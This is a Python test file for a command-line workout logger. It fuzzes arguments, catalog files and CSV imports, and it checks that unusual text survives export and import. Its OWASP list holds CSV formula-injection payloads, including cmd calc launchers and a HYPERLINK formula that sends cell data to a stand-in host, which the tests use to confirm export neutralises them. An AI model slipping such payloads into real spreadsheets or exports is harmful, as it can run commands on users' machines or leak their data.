"""Bad input everywhere: fuzzed arguments, catalogs and CSV files; awkward text round trips.

Guarantee 8 of issue 6. Hypothesis throws generated command lines, user catalogs (TOML) and
import files at the real command line (click's CliRunner, in-process). Whatever it tries:
no traceback, exit status 0 or 2, an error is one line saying what is wrong, and after an
error the database file is byte-for-byte what it was. Notes with emoji, right-to-left
text, combining marks, quotes, commas and line breaks survive export -> import -> export,
and OWASP's CSV-injection examples are neutralised on export and restored on import.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from backtrack.catalog import load_catalog
from backtrack.cli import cli
from backtrack.clock import FixedClock
from backtrack.export import HEADER, export_to_file, import_file
from backtrack.store import FORMULA_PREFIXES, Store
from backtrack.text import strip_controls

FUZZ = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
DRILLS = ["jefferson-curl", "half-kneeling-side-bend", "back-extension-ghd", "windmill", "x"]
NOON = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)


class Workspace:
    """A database with some history, restored to the same bytes before every example."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.db = root / "data" / "backtrack.db"
        store = Store.open(self.db, load_catalog(), FixedClock(NOON))
        me = store.athlete("me")
        for day in range(3):
            for n in range(3):
                store.log_set(
                    me,
                    "jefferson-curl",
                    reps=6 + n,
                    pain=n,
                    note=f"day {day} set {n}",
                    at=NOON + timedelta(days=day, minutes=n),
                )
            store.check_in(me, 1, at=NOON + timedelta(days=day, hours=20))
        store.athlete("other", unit="lb")
        store.close()
        Store.open(self.db, load_catalog()).close()  # today's backup: later runs make none
        self.pristine = self.db.read_bytes()
        self.csv = root / "sets.csv"
        store = Store.open(self.db, load_catalog(), FixedClock(NOON))
        export_to_file(store, self.csv)
        store.close()
        self.csv_text = self.csv.read_text(encoding="utf-8")
        self.reset()

    def reset(self) -> None:
        for suffix in ("-wal", "-shm"):
            Path(f"{self.db}{suffix}").unlink(missing_ok=True)
        self.db.write_bytes(self.pristine)

    def unchanged(self) -> bool:
        wal = Path(f"{self.db}-wal")
        return self.db.read_bytes() == self.pristine and (
            not wal.exists() or not wal.stat().st_size
        )

    def invoke(self, args: list[str], **env: str) -> Result:
        return CliRunner().invoke(cli, args, env={"BACKTRACK_DB": str(self.db), **env})


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    """The workspace, also the current folder (relative file names land in it)."""
    monkeypatch.chdir(tmp_path)
    return Workspace(tmp_path)


def assert_clean(result: Result, space: Workspace, args: object) -> None:
    """Exit 0, or exit 2 with one 'Error:' line and the database untouched; no traceback."""
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"{args!r} raised {result.exception!r}") from result.exception
    assert "Traceback" not in result.output, (args, result.output)
    assert result.exit_code in (0, 2), (args, result.exit_code, result.output)
    if result.exit_code == 2:
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("Error: "), (args, result.stderr)
        assert space.unchanged(), f"{args!r} failed but changed the database"


# -- command-line arguments ----------------------------------------------------------------

# No "/" in generated text: a token must never name a path outside the test's folder.
WORDS = st.text(max_size=12).filter(lambda s: "/" not in s)
VALUES = st.one_of(
    st.sampled_from(DRILLS),
    st.sampled_from(["me", "other", "ME ", "", " ", "kg", "lb", "--", "-", "--help"]),
    st.sampled_from(["nan", "inf", "-inf", "1e309", "-1", "0", "0.5", "7.25", "10", "11", "1e3"]),
    st.sampled_from(["2026-11-25", "2026-02-30", "2026-11-25T07:30", "9999-12-31T23:59+14:00"]),
    st.integers(-(10**6), 10**6).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    WORDS,
)
NUMBER = st.one_of(st.integers(0, 12).map(str), st.floats(0, 1100).map(lambda x: f"{x:.2f}"))
MOMENT = st.datetimes(min_value=datetime(1890, 1, 1), max_value=datetime(2100, 1, 1)).map(
    lambda d: d.isoformat(timespec="minutes")
)
DRILL = st.sampled_from(DRILLS[:3])
NAME = st.sampled_from(["me", "other", "Sam", "=cmd", "é"])
FILE = st.sampled_from(["sets.csv", "missing.csv", "-"])
# Per command: positional arguments and options (None: a flag), each with likely-good values.
GRAMMAR: dict[str, tuple[list, dict[str, st.SearchStrategy | None]]] = {
    "log": (
        [DRILL],
        {
            "--reps": NUMBER,
            "--load": NUMBER,
            "--unit": st.sampled_from(["kg", "lb"]),
            "--rom": NUMBER,
            "--rpe": NUMBER,
            "--rir": NUMBER,
            "--pain": NUMBER,
            "--note": WORDS,
            "--at": MOMENT,
        },
    ),
    "checkin": ([], {"--pain": NUMBER, "--at": MOMENT}),
    "plan": (
        [DRILL],
        {
            "--sets": NUMBER,
            "--load": NUMBER,
            "--unit": st.sampled_from(["kg", "lb"]),
            "--rom": NUMBER,
            "--active": None,
            "--inactive": None,
            "--json": None,
        },
    ),
    "next": ([], {"--json": None}),
    "accept": ([DRILL], {}),
    "decline": ([DRILL], {}),
    "export": ([], {"--since": MOMENT, "--until": MOMENT, "--all-athletes": None}),
    "import": ([FILE], {"--create-athletes": None}),
    "exercises": ([], {"--json": None}),
    "backup": ([], {"--keep": NUMBER}),
    "athletes": ([], {"--json": None, "--all": None}),
    "athletes add": ([NAME], {"--unit": st.sampled_from(["kg", "lb"])}),
    "athletes rename": ([NAME, NAME], {}),
    "athletes unit": ([NAME, st.sampled_from(["kg", "lb"])], {}),
    "athletes archive": ([NAME], {"--undo": None}),
    "athletes set-pin": ([NAME], {"--clear": None}),
}


@st.composite
def command_lines(draw: st.DrawFn) -> list[str]:
    """A command line for one command: mostly well-formed, with values that are often wrong
    and, now and then, a token from anywhere."""
    command = draw(st.sampled_from(sorted(GRAMMAR)))
    positionals, options = GRAMMAR[command]
    args = [draw(st.one_of(value, value, value, VALUES)) for value in positionals]
    for _ in range(draw(st.integers(0, 4))):
        name = draw(st.sampled_from([*options, "--athlete"]))
        value = options.get(name, NAME) if name != "--athlete" else NAME
        args.append(name)
        if value is not None:
            args.append(draw(st.one_of(value, value, VALUES)))
    if draw(st.integers(0, 4)) == 0:
        args.insert(draw(st.integers(0, len(args))), draw(VALUES))
    return [*command.split(), *args]


@pytest.mark.slow
def test_fuzzed_command_lines_never_crash_or_half_write(workspace: Workspace) -> None:
    @FUZZ
    @given(args=command_lines())
    def check(args: list[str]) -> None:
        workspace.reset()
        assert_clean(workspace.invoke(args), workspace, args)

    check()


@pytest.mark.parametrize(
    "args",
    [
        ["log", "jefferson-curl", "--reps", "8", "--load", "nan"],
        ["log", "jefferson-curl", "--reps", "8", "--at", "0001-01-01T00:00"],
        ["log", "jefferson-curl", "--reps", "8", "--rom", "99"],
        ["log", "jefferson-curl", "--reps", "8", "--load", "5000", "--unit", "lb"],
        ["checkin", "--pain", "11"],
        ["plan", "jefferson-curl", "--sets", "99"],
        ["export", "--since", "2026-12-01", "--until", "2026-01-01"],
        ["athletes", "add", "x" * 41],
        ["athletes", "rename", "me", "other"],
        ["backup", "--keep", "0"],
    ],
)
def test_known_bad_arguments_are_refused_cleanly(workspace: Workspace, args: list[str]) -> None:
    result = workspace.invoke(args)
    assert result.exit_code == 2, result.output
    assert_clean(result, workspace, args)


# -- the user catalog ----------------------------------------------------------------------

FIELDS = [
    "id",
    "name",
    "loads",
    "equipment",
    "cues",
    "sets",
    "reps_min",
    "reps_max",
    "rest_seconds",
    "start_load_kg",
    "load_increment_kg",
    "max_load_kg",
    "max_sets",
    "rom",
    "progression",
    "surprise",
]
SCALARS = st.one_of(
    st.integers(-(10**12), 10**12),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.text(max_size=20),
    st.sampled_from(["rom", "load", "volume", "flexion", "jefferson-curl"]),
)
TOML_VALUES = st.one_of(SCALARS, st.lists(SCALARS, max_size=4))


def toml_value(value: object) -> str:
    """TOML text for a value (JSON's string and number syntax is valid TOML for these)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    return json.dumps(value)


@st.composite
def catalogs(draw: st.DrawFn) -> str:
    if draw(st.integers(0, 9)) == 0:
        return draw(st.text(max_size=200))  # not even TOML
    parts = []
    for _ in range(draw(st.integers(0, 3))):
        parts.append("[[exercise]]")
        drill = draw(st.sampled_from([*DRILLS, "new-drill"]))
        if draw(st.booleans()):
            parts.append(f"id = {json.dumps(drill)}")
        chosen = draw(st.lists(st.sampled_from(FIELDS), max_size=5, unique=True))
        for field in chosen:
            parts.append(f"{field} = {toml_value(draw(TOML_VALUES))}")
    if draw(st.integers(0, 9)) == 0:
        parts.append("[something_else]\nx = 1")
    return "\n".join(parts) + "\n"


CATALOG_COMMANDS = [
    ["exercises", "--json"],
    ["log", "jefferson-curl", "--reps", "8"],
    ["log", "new-drill", "--reps", "8"],
    ["next"],
    ["plan"],
    ["export"],
]


@pytest.mark.slow
def test_fuzzed_user_catalogs_never_crash_or_half_write(workspace: Workspace) -> None:
    catalog_file = workspace.root / "mine.toml"

    @FUZZ
    @given(text=catalogs(), args=st.sampled_from(CATALOG_COMMANDS))
    def check(text: str, args: list[str]) -> None:
        workspace.reset()
        catalog_file.write_text(text, encoding="utf-8")
        result = workspace.invoke(args, BACKTRACK_CATALOG=str(catalog_file))
        assert_clean(result, workspace, (text, args))
        if result.exit_code == 2 and "mine.toml" in result.stderr:
            assert "Error: " in result.stderr

    check()


def test_a_bad_catalog_names_its_file(workspace: Workspace) -> None:
    bad = workspace.root / "mine.toml"
    bad.write_text('[[exercise]]\nid = "jefferson-curl"\nsets = "many"\n', encoding="utf-8")
    result = workspace.invoke(["log", "jefferson-curl", "--reps", "8"], BACKTRACK_CATALOG=str(bad))
    assert result.exit_code == 2
    assert str(bad) in result.stderr and "sets" in result.stderr
    assert workspace.unchanged()


# -- the import CSV ------------------------------------------------------------------------


@st.composite
def damaged_csvs(draw: st.DrawFn, original: str) -> str:
    rows = list(csv.reader(io.StringIO(original, newline="")))
    how = draw(st.sampled_from(["cell", "cell", "cell", "row", "header", "bytes", "truncate"]))
    if how == "bytes":
        return draw(st.text(max_size=300))
    if how == "truncate":
        return original[: draw(st.integers(0, len(original)))]
    if how == "header":
        column = draw(st.integers(0, len(HEADER) - 1))
        rows[0][column] = draw(st.sampled_from(["", "Date", "note ", *HEADER]))
    elif how == "row":
        row = draw(st.integers(1, len(rows) - 1))
        rows[row] = draw(st.lists(WORDS, max_size=len(HEADER) + 2))
    else:
        for _ in range(draw(st.integers(1, 3))):
            row = draw(st.integers(1, len(rows) - 1))
            column = draw(st.integers(0, len(HEADER) - 1))
            rows[row][column] = draw(VALUES)
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


@pytest.mark.slow
def test_fuzzed_import_files_never_crash_or_half_write(workspace: Workspace) -> None:
    target = workspace.root / "import.csv"

    @FUZZ
    @given(data=st.data())
    def check(data: st.DataObject) -> None:
        workspace.reset()
        text = data.draw(damaged_csvs(workspace.csv_text))
        target.write_text(text, encoding="utf-8", newline="")
        assert_clean(
            workspace.invoke(["import", "--create-athletes", str(target)]), workspace, text
        )

    check()


def test_a_bad_row_anywhere_imports_nothing(workspace: Workspace) -> None:
    rows = workspace.csv_text.splitlines(keepends=True)
    rows.append(rows[-1].replace(",8,", ",800,", 1))
    target = workspace.root / "import.csv"
    fresh = workspace.root / "fresh.db"
    target.write_text("".join(rows), encoding="utf-8", newline="")
    result = CliRunner().invoke(
        cli, ["import", "--create-athletes", str(target)], env={"BACKTRACK_DB": str(fresh)}
    )
    assert result.exit_code == 2 and f"line {len(rows)}" in result.stderr, result.output
    store = Store.open(fresh, load_catalog())
    try:
        assert store.export_rows() is not None
        assert list(store.export_rows()) == []
    finally:
        store.close()


# -- awkward text round trips --------------------------------------------------------------

AWKWARD = [
    "felt 💪🏽 today 👨‍👩‍👧",
    "שלום, עובד טוב",  # right-to-left, with a comma
    "مرحبا \u202eabc\u202c",  # Arabic and an RTL override
    "e\u0301te\u0301 Z\u0335\u0321a\u0336lgo",  # combining marks
    'said "easy", then ""hard""',
    "line one\nline two\r\nline three\rend",
    "  leading and trailing spaces  ",
    "semi;colon,comma\ttab",
    "\u00a0non-breaking\u2028line separator",
]
OWASP = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "\t=1+2",
    "\r=1+2",
    "'=already escaped",
]


def round_trip(tmp_path: Path, notes: list[str], athletes: list[str]) -> tuple[str, list]:
    """Log `notes` (for `athletes`), export, import into a new database and export again;
    return the first export's text and the (athlete, note) pairs the import stored."""
    catalog = load_catalog()
    first = Store.open(tmp_path / "a.db", catalog, FixedClock(NOON))
    for i, note in enumerate(notes):
        person = first.athlete(athletes[i % len(athletes)])
        first.log_set(person, "jefferson-curl", reps=8, note=note, at=NOON + timedelta(minutes=i))
    out_a = tmp_path / "a.csv"
    export_to_file(first, out_a)
    first.close()
    second = Store.open(tmp_path / "b.db", catalog, FixedClock(NOON))
    assert import_file(second, out_a, create_athletes=True) == len(notes)
    out_b = tmp_path / "b.csv"
    export_to_file(second, out_b)
    second.close()
    assert out_b.read_bytes() == out_a.read_bytes(), "export -> import -> export changed bytes"
    conn = sqlite3.connect(tmp_path / "b.db")
    try:
        stored = conn.execute(
            "SELECT a.name, s.note FROM sets s JOIN athletes a ON a.id = s.athlete_id ORDER BY s.id"
        ).fetchall()
    finally:
        conn.close()
    return out_a.read_bytes().decode("utf-8"), stored  # no newline translation


def test_awkward_notes_survive_export_import_export(tmp_path: Path) -> None:
    text, stored = round_trip(tmp_path, AWKWARD, ["me"])
    assert stored == [("me", note) for note in AWKWARD]
    exported = [r["note"] for r in csv.DictReader(io.StringIO(text, newline=""))]
    assert exported == AWKWARD


def test_owasp_formula_injection_is_neutralised_and_restored(tmp_path: Path) -> None:
    athletes = ["=cmd|' /C calc'!A0", "@attacker", "me"]
    text, stored = round_trip(tmp_path, OWASP, athletes)
    assert stored == [(athletes[i % 3], note) for i, note in enumerate(OWASP)]
    for record in csv.DictReader(io.StringIO(text, newline="")):
        for column in ("note", "athlete"):
            cell = record[column]
            assert cell.startswith("'") or not cell.startswith(FORMULA_PREFIXES), cell
    exported = [r["note"] for r in csv.DictReader(io.StringIO(text, newline=""))]
    assert exported == ["'" + note for note in OWASP], "each is prefixed with one quote"


# Any text a note can hold: the store drops terminal control characters (text.py) as it
# logs a note, so those the round trip keeps are the notes without them.
NOTES = st.text(min_size=1, max_size=60).map(strip_controls).filter(lambda s: s.strip())


@pytest.mark.slow
@settings(max_examples=60, deadline=None)
@given(notes=st.lists(NOTES, min_size=1, max_size=6))
def test_any_note_survives_the_round_trip(tmp_path_factory, notes: list[str]) -> None:
    folder = tmp_path_factory.mktemp("round")
    text, stored = round_trip(folder, notes, ["me"])
    assert [note for _, note in stored] == notes
    for record in csv.DictReader(io.StringIO(text, newline="")):
        assert record["note"].startswith("'") or not record["note"].startswith(FORMULA_PREFIXES)
    shutil.rmtree(folder)


def test_workspace_dates_are_what_the_tests_expect(workspace: Workspace) -> None:
    """The fuzzing workspace holds three days of sets (so import/export have rows)."""
    rows = list(csv.DictReader(io.StringIO(workspace.csv_text, newline="")))
    assert {r["date"] for r in rows} == {
        str(date(2026, 11, 20) + timedelta(days=d)) for d in (0, 1, 2)
    }
